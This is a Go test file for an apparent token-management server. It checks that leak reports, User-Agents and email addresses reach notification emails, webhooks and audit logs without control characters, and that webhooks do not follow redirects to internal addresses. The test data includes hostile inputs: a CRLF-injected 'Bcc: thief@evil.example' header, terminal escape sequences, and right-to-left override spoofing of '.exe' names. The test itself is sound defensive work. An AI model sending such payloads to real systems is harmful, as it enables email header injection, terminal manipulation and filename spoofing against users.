package server_test

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"unicode"

	"github.com/latchkey/latchkey/internal/notify/notifytest"
	"github.com/latchkey/latchkey/internal/servertest"
)

// hidden returns the first control or invisible formatting character in s
// that is not a line break, or 0: what would drive a terminal or make the
// text read as something else (U+202E RIGHT-TO-LEFT OVERRIDE).
func hidden(s string) rune {
	for _, r := range s {
		if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
			return r
		}
	}
	return 0
}

// texts joins every string inside a decoded JSON value.
func texts(v any) string {
	switch x := v.(type) {
	case string:
		return x
	case []any:
		var b strings.Builder
		for _, e := range x {
			b.WriteString(texts(e) + " ")
		}
		return b.String()
	case map[string]any:
		var b strings.Builder
		for k, e := range x {
			b.WriteString(k + " " + texts(e) + " ")
		}
		return b.String()
	}
	return ""
}

// TestTextFromStrangersReachesPeopleWithoutControlsOrOverrides follows text
// that anyone can write — a leak report's url and source, a User-Agent —
// to where people read it: the owner's email, the webhook, the audit log,
// the session list. None of it carries line breaks into mail headers,
// terminal escapes or direction overrides; and an email address that
// would read as another one is refused.
func TestTextFromStrangersReachesPeopleWithoutControlsOrOverrides(t *testing.T) {
	smtp, hook, flags := notices(t)
	servertest.ForEachBackend(t, func(t *testing.T, s *servertest.Server) {
		admin := s.AdminSession(t)
		name := "dana-" + s.Backend
		id := s.CreateUser(t, admin, name, "dana-password", "member", "person")
		if st, body, _ := s.Do(t, http.MethodPatch, "/api/v1/users/"+id, admin, map[string]any{"email": "dana\u202egro.live@example.org"}); st != http.StatusUnprocessableEntity {
			t.Fatalf("an email with U+202E: status %d, want 422: %s", st, body)
		}
		s.JSON(t, http.MethodPatch, "/api/v1/users/"+id, admin, map[string]any{"email": "dana@example.org"}, http.StatusOK, nil)

		// A sign-in from a client whose User-Agent holds a UTF-8 C1 CSI, a
		// direction override and a byte that is not UTF-8: net/http lets
		// all of them through.
		login, _ := json.Marshal(map[string]string{"username": name, "password": "dana-password"})
		req, _ := http.NewRequest(http.MethodPost, s.URL+"/api/v1/auth/login", bytes.NewReader(login))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("User-Agent", "curl\u009b2J\u009b31m \u202eexe.txt \xff")
		resp, err := s.Client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		var opened struct {
			Token string `json:"token"`
		}
		_ = json.NewDecoder(resp.Body).Decode(&opened)
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("login with an odd User-Agent: status %d", resp.StatusCode)
		}
		var sessions struct {
			Items []struct {
				UserAgent string `json:"user_agent"`
			} `json:"items"`
		}
		s.JSON(t, http.MethodGet, "/api/v1/sessions", opened.Token, nil, http.StatusOK, &sessions)
		for _, it := range sessions.Items {
			if r := hidden(it.UserAgent); r != 0 || !strings.Contains(it.UserAgent, "exe.txt") {
				t.Errorf("session user_agent %q keeps %U", it.UserAgent, r)
			}
		}

		leaked := s.CreateToken(t, opened.Token, map[string]any{"name": "ci", "scopes": []string{"repo"}})
		report := []map[string]string{{"token": leaked.Secret, "type": "latchkey_pat",
			"url":    "https://gist.example.com/x\r\nBcc: thief@evil.example\r\n\x1b]0;owned\x07\x1b[2J\u202etxt.exe",
			"source": "scanner\u202e\u200b\u009b31m"}}
		s.JSON(t, http.MethodPost, "/api/v1/leaks", "", report, http.StatusOK, nil)

		m := smtp.Next(t)
		if len(m.To) != 1 || m.To[0] != "dana@example.org" {
			t.Fatalf("leak notice sent to %v", m.To)
		}
		mail := m.Read(t)
		if len(mail.Header["Bcc"]) != 0 {
			t.Fatalf("the report's url added a header: %v", mail.Header)
		}
		if r := hidden(mail.Subject + mail.Body); r != 0 {
			t.Errorf("the leak notice carries %U:\n%q", r, mail.Body)
		}
		if !strings.Contains(mail.Body, "Found at: https://gist.example.com/x") {
			t.Errorf("the leak notice lost where it was found:\n%s", mail.Body)
		}

		p := nextWebhook(t, hook, "token.leaked")
		if p.Leak == nil || hidden(p.Leak.URL+p.Leak.Source) != 0 || !strings.HasPrefix(p.Leak.URL, "https://gist.example.com/x") {
			t.Errorf("webhook leak: %+v", p.Leak)
		}

		var audit struct {
			Items []struct {
				Action    string `json:"action"`
				UserAgent string `json:"user_agent"`
				Details   any    `json:"details"`
			} `json:"items"`
		}
		s.JSON(t, http.MethodGet, "/api/v1/audit?limit=50", admin, nil, http.StatusOK, &audit)
		seen := 0
		for _, e := range audit.Items {
			if r := hidden(e.UserAgent + texts(e.Details)); r != 0 {
				t.Errorf("audit event %s carries %U: %q %q", e.Action, r, e.UserAgent, texts(e.Details))
			}
			if e.Action == "token.leak_reported" {
				seen++
			}
		}
		if seen != 1 {
			t.Errorf("%d token.leak_reported events, want 1", seen)
		}
	}, flags...)
}

// TestWebhookDoesNotFollowRedirects points the webhook at a receiver that
// answers 307 to an internal address: the signed notice, with the owner's
// name and address, must not be POSTed there.
func TestWebhookDoesNotFollowRedirects(t *testing.T) {
	var internal atomic.Int32
	inside := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { internal.Add(1) }))
	defer inside.Close()
	var asked atomic.Int32
	moved := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked.Add(1)
		http.Redirect(w, r, inside.URL+"/admin/run", http.StatusTemporaryRedirect)
	}))
	defer moved.Close()
	smtp := notifytest.StartSMTP(t)
	s := servertest.Start(t, "--webhook-url", moved.URL+"/hook", "--webhook-secret", webhookSecret,
		"--smtp-url", "smtp://127.0.0.1:"+smtp.Port(), "--smtp-from", "latchkey@example.com")
	admin := s.AdminSession(t)
	leaked := s.CreateToken(t, admin, map[string]any{"name": "ci", "scopes": []string{"repo"}})
	s.JSON(t, http.MethodPost, "/api/v1/leaks", "", []map[string]string{{"token": leaked.Secret}}, http.StatusOK, nil)
	// The admin has no email: the notice goes to the webhook only. Wait
	// for the delivery attempt, then for anything a redirect would send.
	smtp.None(t, quiet)
	if asked.Load() == 0 {
		t.Fatal("the webhook receiver was never called")
	}
	if n := internal.Load(); n != 0 {
		t.Fatalf("the notice was POSTed %d times to where the receiver redirected", n)
	}
}
